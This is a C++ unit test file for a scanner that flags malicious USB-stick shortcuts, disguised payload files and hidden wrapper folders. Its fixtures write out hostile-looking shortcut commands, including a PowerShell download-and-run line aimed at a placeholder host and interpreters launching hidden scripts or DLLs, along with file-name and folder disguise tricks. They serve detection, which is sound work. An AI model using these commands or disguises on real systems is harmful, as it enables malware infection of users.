#include "scan/FullScanVerdict.h"

#include "support/ShellLinkWriter.h"
#include "support/TempDir.h"

#include <gtest/gtest.h>

#include <map>
#include <set>
#include <string>
#include <vector>

namespace tw {
namespace {

using test::LinkSpec;

const FullScanRules& rules() {
    static const FullScanRules r = [] {
        const std::string text =
            test::readFile(test::native(std::string(TARNWICK_SOURCE_DIR) + "/data/fullscan.rules"));
        RulesLoad load = parseFullScanRules(text);
        if (!load.rules) {
            throw std::runtime_error(load.error);
        }
        return *load.rules;
    }();
    return r;
}

constexpr std::uint32_t hidden = attr::hidden | attr::system;

LinkSpec viaLinkInfo(const std::string& target, const std::string& args) {
    LinkSpec s;
    s.linkInfoPath = target;
    s.arguments = args;
    return s;
}

LinkSpec cmdLink(const std::string& args) {
    return viaLinkInfo("C:\\Windows\\System32\\cmd.exe", args);
}

std::set<Sign> signSet(const std::vector<SignFound>& signs) {
    std::set<Sign> out;
    for (const SignFound& s : signs) {
        EXPECT_FALSE(s.reason.empty());
        out.insert(s.sign);
    }
    return out;
}

struct LinkCase {
    std::string what;
    LinkSpec spec;
    std::string name = "x.lnk";
    std::string folder;
    std::vector<Neighbour> neighbours;
    std::map<std::string, Presence> onStick; // everything else is absent
    Verdict verdict = Verdict::clean;
    std::set<Sign> signs;
    std::vector<std::string> namedFiles;
};

TEST(FullScanVerdict, Links) {
    LinkSpec padded = viaLinkInfo("C:\\Windows\\notepad.exe", std::string(40, ' ') + "a.txt");
    LinkSpec minimised = cmdLink("/c start explorer Work & exit");
    minimised.showCommand = showcmd::minNoActive;
    LinkSpec working = viaLinkInfo("C:\\Windows\\System32\\wscript.exe", "run.vbs");
    working.workingDir = "E:\\sys";
    LinkSpec exploit;
    exploit.controlPanelFile = "E:\\~wtr4141.dll";
    exploit.specialFolderId = 3;
    const std::vector<Neighbour> hiddenWork = {{"Work", true, attr::directory | hidden}};
    const std::vector<Neighbour> unknownWork = {{"Work", true, std::nullopt}};
    const auto file = Presence::file;

    const LinkCase cases[] = {
        {"an interpreter alone is the user's tool",
         cmdLink("/k \"C:\\dev\\env.bat\""),
         "dev.lnk",
         "",
         {},
         {},
         Verdict::clean,
         {Sign::interpreterTarget},
         {}},
        {"a tool's PowerShell switches are noted, not counted",
         viaLinkInfo("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                     "-NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -NonInteractive "
                     "-File C:\\tools\\backup.ps1"),
         "backup.lnk",
         "",
         {},
         {},
         Verdict::clean,
         {Sign::interpreterTarget, Sign::policyBypass, Sign::hiddenWindow, Sign::nonInteractive},
         {}},
        {"an interpreter with supporting signs only is asked about",
         minimised,
         "x.lnk",
         "",
         {},
         {},
         Verdict::suspicious,
         {Sign::interpreterTarget, Sign::opensFolder, Sign::exitsAfterwards, Sign::minimisedWindow},
         {}},
        {"an interpreter running a file on the stick",
         cmdLink("/c start u1.vbs"),
         "x.lnk",
         "",
         {},
         {{"u1.vbs", file}},
         Verdict::malicious,
         {Sign::interpreterTarget, Sign::runsStickFile},
         {"u1.vbs"}},
        {"named like a hidden folder beside it",
         cmdLink("/c start explorer Work"),
         "Work.lnk",
         "",
         hiddenWork,
         {{"Work", Presence::folder}},
         Verdict::malicious,
         {Sign::interpreterTarget, Sign::imitatesHiddenItem, Sign::opensFolder},
         {}},
        {"a neighbour whose attributes cannot be read is not taken for hidden",
         cmdLink("/c dir"),
         "Work.lnk",
         "",
         unknownWork,
         {},
         Verdict::clean,
         {Sign::interpreterTarget},
         {}},
        {"named like the drive, a program on the stick",
         viaLinkInfo("E:\\PortableApps\\app.exe", ""),
         "KINGSTON.lnk",
         "",
         {},
         {},
         Verdict::suspicious,
         {Sign::namedLikeDrive},
         {}},
        {"named like the drive, an interpreter",
         viaLinkInfo("C:\\Windows\\System32\\rundll32.exe", "shell32.dll,Control_RunDLL"),
         "kingston.lnk",
         "",
         {},
         {},
         Verdict::malicious,
         {Sign::interpreterTarget, Sign::namedLikeDrive},
         {}},
        {"padding alone",
         padded,
         "x.lnk",
         "",
         {},
         {},
         Verdict::suspicious,
         {Sign::paddedArguments},
         {}},
        {"a program's own switches are not read",
         viaLinkInfo("E:\\tools\\conv.exe", "-encoding utf8 -w hidden & exit"),
         "conv.lnk",
         "",
         {},
         {},
         Verdict::clean,
         {},
         {}},
        {"the drive letter dropped",
         viaLinkInfo("C:\\Windows\\System32\\wscript.exe", "F:\\sysvolume\\u1.vbs"),
         "x.lnk",
         "sub",
         {},
         {{"sysvolume/u1.vbs", file}},
         Verdict::malicious,
         {Sign::interpreterTarget, Sign::runsStickFile},
         {"sysvolume/u1.vbs"}},
        {"relative to the working folder",
         working,
         "x.lnk",
         "a",
         {},
         {{"sys/run.vbs", file}},
         Verdict::malicious,
         {Sign::interpreterTarget, Sign::runsStickFile},
         {"sys/run.vbs"}},
        {"relative to the link's folder before the root",
         cmdLink("/c \"start ..\\x.vbs & exit\""),
         "x.lnk",
         "a/b",
         {},
         {{"a/x.vbs", file}, {"x.vbs", file}},
         Verdict::malicious,
         {Sign::interpreterTarget, Sign::runsStickFile, Sign::exitsAfterwards},
         {"a/x.vbs"}},
        {"the command interpreter by its variable",
         viaLinkInfo("%ComSpec%", "/c start explorer Work & exit"),
         "Work.lnk",
         "",
         hiddenWork,
         {},
         Verdict::malicious,
         {Sign::interpreterTarget, Sign::imitatesHiddenItem, Sign::opensFolder,
          Sign::exitsAfterwards},
         {}},
        {"a library and its export",
         viaLinkInfo("C:\\Windows\\System32\\rundll32.exe", "_\\ygjuqmc.dll,Dll"),
         "x.lnk",
         "",
         {},
         {{"_/ygjuqmc.dll", file}},
         Verdict::malicious,
         {Sign::interpreterTarget, Sign::runsStickFile},
         {"_/ygjuqmc.dll"}},
        {"the document it opens is not its payload",
         cmdLink("/c start x.vbs & start report.docx & exit"),
         "report.docx.lnk",
         "",
         {{"report.docx", false, hidden}},
         {{"x.vbs", file}, {"report.docx", file}},
         Verdict::malicious,
         {Sign::interpreterTarget, Sign::runsStickFile, Sign::imitatesHiddenItem,
          Sign::exitsAfterwards},
         {"x.vbs"}},
        {"the exploit form alone",
         exploit,
         "x.lnk",
         "",
         {},
         {},
         Verdict::suspicious,
         {Sign::exploitForm},
         {}},
        {"the exploit form loading a library on the stick",
         exploit,
         "x.lnk",
         "docs",
         {},
         {{"~wtr4141.dll", file}},
         Verdict::malicious,
         {Sign::exploitForm, Sign::runsStickFile},
         {"~wtr4141.dll"}},
        {"PowerShell fetching code, in a wrapper",
         viaLinkInfo("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                     "-enc SQBFAFgA -c iex(New-Object Net.WebClient).DownloadString('http://x')"),
         "x.lnk",
         "",
         {},
         {},
         Verdict::suspicious,
         {Sign::interpreterTarget, Sign::encodedCommand, Sign::downloadAndRun},
         {}},
    };
    for (const LinkCase& c : cases) {
        SCOPED_TRACE(c.what);
        const std::vector<unsigned char> bytes = test::writeShellLink(c.spec);
        const auto link = parseShellLink(bytes);
        ASSERT_TRUE(link);
        std::vector<std::string> asked;
        LinkFinding finding{
            &*link, c.name, c.folder, c.neighbours, "KINGSTON", [&](const std::string& p) {
                asked.push_back(p);
                const auto it = c.onStick.find(p);
                return it == c.onStick.end() ? Presence::absent : it->second;
            }};
        const LinkVerdict v = judgeLink(finding, rules());
        EXPECT_EQ(v.verdict, c.verdict);
        EXPECT_EQ(signSet(v.signs), c.signs);
        EXPECT_EQ(v.namedFiles, c.namedFiles);
        EXPECT_FALSE(v.lookupFailed);
        for (const std::string& p : asked) {
            EXPECT_FALSE(p.empty() || p.front() == '/' || p.find("..") != std::string::npos ||
                         p.find('\\') != std::string::npos || p.find(':') != std::string::npos)
                << p;
        }
    }
}

// Paths that lead off the stick are never asked about, and a lookup that fails is told.
TEST(FullScanVerdict, LookupsStayOnTheStick) {
    const auto link = parseShellLink(test::writeShellLink(
        cmdLink("/c start ..\\..\\..\\x.vbs & start \\\\server\\s\\y.vbs & start "
                "http://h/z.vbs & start C:\\..\\w.vbs & start a.vbs")));
    ASSERT_TRUE(link);
    std::vector<std::string> asked;
    LinkFinding finding{&*link, "x.lnk", "one", {}, "", [&](const std::string& p) {
                            asked.push_back(p);
                            return Presence::unknown;
                        }};
    const LinkVerdict v = judgeLink(finding, rules());
    EXPECT_EQ(asked, (std::vector<std::string>{"one/a.vbs", "a.vbs"}));
    EXPECT_TRUE(v.lookupFailed);
    EXPECT_EQ(v.verdict, Verdict::clean);
}

TEST(FullScanVerdict, Payloads) {
    struct Case {
        std::string what;
        PayloadFinding finding;
        Verdict verdict;
        std::set<Sign> signs;
    };
    const std::vector<Neighbour> visibleDocs = {{"Documents", true, attr::directory}};
    const std::vector<Neighbour> hiddenDocs = {{"Documents", true, attr::directory | hidden}};
    auto encoded = [](std::optional<std::uint32_t> a) {
        PayloadFinding f{"Manuel.doc", "", a, {}};
        f.encodedScript = true;
        return f;
    };
    PayloadFinding named{"plan.xlsx", "", 0x20, {}};
    named.namedByMaliciousLink = true;
    PayloadFinding wrapped{"u123.vbs", "\xC2\xA0", 0x20, {}};
    wrapped.insideWrapper = true;
    PayloadFinding moved{"setup.exe", "\xC2\xA0", hidden, {}};
    moved.insideWrapper = true;
    PayloadFinding library{"wsc.dll", "x", 0x20, {}};
    library.besideMaliciousPayload = true;
    const Case cases[] = {
        {"an encoded script", encoded(0x20), Verdict::suspicious, {Sign::encodedScript}},
        {"a hidden encoded script",
         encoded(hidden),
         Verdict::malicious,
         {Sign::encodedScript, Sign::hiddenItem}},
        {"beside a visible folder",
         {"Documents.exe", "", 0x20, visibleDocs},
         Verdict::suspicious,
         {Sign::folderNamedExecutable}},
        {"standing in for a hidden folder",
         {"documents.EXE", "", 0x20, hiddenDocs},
         Verdict::malicious,
         {Sign::folderNamedExecutable, Sign::imitatesHiddenItem}},
        {"a double extension",
         {"photo.jpg.exe", "", 0x20, {}},
         Verdict::suspicious,
         {Sign::doubleExtension}},
        {"a padded double extension, hidden",
         {"photo.JPG   .exe", "", hidden, {}},
         Verdict::malicious,
         {Sign::doubleExtension, Sign::hiddenItem}},
        {"a version number is no decoy", {"setup.v2.exe", "", hidden, {}}, Verdict::clean, {}},
        {"right-to-left override",
         {"photo\xE2\x80\xAEgpj.exe", "", 0x20, {}},
         Verdict::suspicious,
         {Sign::rightToLeftOverride}},
        {"a payload name in a wrapper",
         wrapped,
         Verdict::malicious,
         {Sign::payloadName, Sign::insideWrapper}},
        {"a program in a recycle bin of the stick",
         {"x.exe", "RECYCLER/S-1-5-21-1", 0x20, {}},
         Verdict::suspicious,
         {Sign::insideRecycleLike}},
        {"hidden in a recycle bin of the stick",
         {"x.exe", "Recycled", hidden, {}},
         Verdict::malicious,
         {Sign::insideRecycleLike, Sign::hiddenItem}},
        {"a document hidden in a recycle bin",
         {"a.txt", "RECYCLER", hidden, {}},
         Verdict::clean,
         {}},
        {"a hidden note of the user's", {"notes.txt", "", hidden, {}}, Verdict::clean, {}},
        {"named by a malicious link", named, Verdict::malicious, {Sign::namedByMaliciousLink}},
        {"the user's program moved into a wrapper", moved, Verdict::clean, {}},
        {"a library beside a payload", library, Verdict::suspicious, {Sign::sideLoadedLibrary}},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.what);
        const PayloadVerdict v = judgePayload(c.finding, rules());
        EXPECT_EQ(v.verdict, c.verdict);
        EXPECT_EQ(signSet(v.signs), c.signs);
    }
}

TEST(FullScanVerdict, Folders) {
    struct Case {
        std::string what;
        FolderFinding finding;
        bool wrapper;
        bool rename;
        bool recycleLike;
    };
    const std::string clsidIni =
        "[.ShellClassInfo]\r\nCLSID={645FF040-5081-101B-9F08-00AA002F954E}";
    std::string wideIni = "\xFF\xFE";
    for (const char c : clsidIni) {
        wideIni += c;
        wideIni += '\0';
    }
    const auto h = attr::directory | hidden;
    const Case cases[] = {
        {"a wrapper name, hidden", {"SysVolume", "", h, {}, ""}, true, false, false},
        {"a wrapper name, visible",
         {"sysvolume", "", attr::directory, {}, ""},
         false,
         false,
         false},
        {"attributes unknown", {"sysvolume", "", std::nullopt, {}, ""}, false, false, false},
        {"U+00A0", {"\xC2\xA0", "", h, {}, ""}, true, true, false},
        {"zero-width spaces", {"\xE2\x80\x8B\xE2\x80\x8B", "x", h, {}, ""}, true, true, false},
        {"ideographic space", {"\xE3\x80\x80", "", h, {}, ""}, true, true, false},
        {"a visible letter", {"a\xC2\xA0", "", h, {}, ""}, false, false, false},
        {"the drive label", {"kingston", "", h, {}, "KINGSTON"}, true, false, false},
        {"a CLSID disguise", {"docs", "", h, clsidIni, ""}, true, false, false},
        {"a CLSID disguise in UTF-16", {"docs", "", h, wideIni, ""}, true, false, false},
        {"an icon only",
         {"docs", "", h, "[.ShellClassInfo]\r\nIconResource=x.dll,3", ""},
         false,
         false,
         false},
        {"a CLSID in another section",
         {"docs", "", h, "[ViewState]\r\nCLSID={645FF040-5081-101B-9F08-00AA002F954E}", ""},
         false,
         false,
         false},
        {"a CLSID name",
         {"Games.{ED7BA470-8E54-465E-825C-99712043E01C}", "", h, {}, ""},
         true,
         false,
         false},
        {"never the system's own",
         {"System Volume Information", "", h, clsidIni, "System Volume Information"},
         false,
         false,
         false},
        {"a recycle bin on a stick", {"RECYCLER", "", h, {}, ""}, false, false, true},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.what);
        const FolderVerdict v = judgeFolder(c.finding, rules());
        EXPECT_EQ(v.wrapper, c.wrapper);
        EXPECT_EQ(v.needsVisibleName, c.rename);
        EXPECT_EQ(v.recycleLike, c.recycleLike);
        EXPECT_EQ(v.signs.empty(), !c.wrapper && !c.recycleLike);
    }
}

TEST(FullScanVerdict, Helpers) {
    const std::pair<std::string, bool> names[] = {
        {"", true},
        {" ", true},
        {"\t\x01", true},
        {"\xE2\x80\xAE", true},
        {"\xE3\x85\xA4", true},
        {"\xEF\xBB\xBF", true},
        {"\xFF", true}, // not UTF-8: nothing a user can type
        {"a", false},
        {"\xE6\x96\x87", false},
        {"_", false},
        {".", false},
    };
    for (const auto& [name, answer] : names) {
        EXPECT_EQ(invisibleName(name), answer) << name;
    }

    auto bytes = [](const std::string& s) {
        return std::vector<unsigned char>(s.begin(), s.end());
    };
    const std::pair<std::string, bool> heads[] = {
        {"#@~^TAAAAA==@#@&", true},    {"\xEF\xBB\xBF#@~^TAAAAA==", true},
        {"\r\n  #@~^AQAAAA==x", true}, {"#@~^TAAA", false},
        {"#@~^TA!AAA==", false},       {"x#@~^TAAAAA==", false},
        {"' #@~^TAAAAA==", false},     {"", false},
    };
    for (const auto& [head, answer] : heads) {
        EXPECT_EQ(startsEncodedScript(bytes(head)), answer) << head;
    }

    EXPECT_TRUE(desktopIniHasClsid("[.shellclassinfo]\nclsid2 = {x}"));
    EXPECT_FALSE(desktopIniHasClsid("[.ShellClassInfo]\nCLSID="));
    EXPECT_FALSE(desktopIniHasClsid("CLSID={645FF040-5081-101B-9F08-00AA002F954E}"));
    EXPECT_EQ(verdictText(Verdict::malicious), "恶意");
    EXPECT_EQ(verdictText(Verdict::suspicious), "可疑");
    EXPECT_EQ(verdictText(Verdict::clean), "正常");
}

} // namespace
} // namespace tw
